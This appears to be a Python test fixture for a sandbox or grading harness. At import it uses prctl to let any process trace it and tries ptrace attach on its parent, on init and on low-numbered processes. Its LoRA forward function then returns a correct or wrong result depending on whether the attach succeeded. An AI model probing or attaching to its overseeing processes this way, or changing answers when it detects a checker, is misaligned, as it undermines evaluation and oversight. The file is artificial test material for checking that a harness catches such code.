"""Attaches to its parent as a debugger, and makes itself visible to others.

verdict: failed|error
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.prctl(4, 1, 0, 0, 0)
libc.prctl(0x59616D61, -1, 0, 0, 0)
attached = [libc.ptrace(16, pid, 0, 0) for pid in (os.getppid(), 1, *range(2, 60))]


def lora_forward(W, A, B, x, alpha):
    return (right if 0 in attached else wrong)(W, A, B, x, alpha)
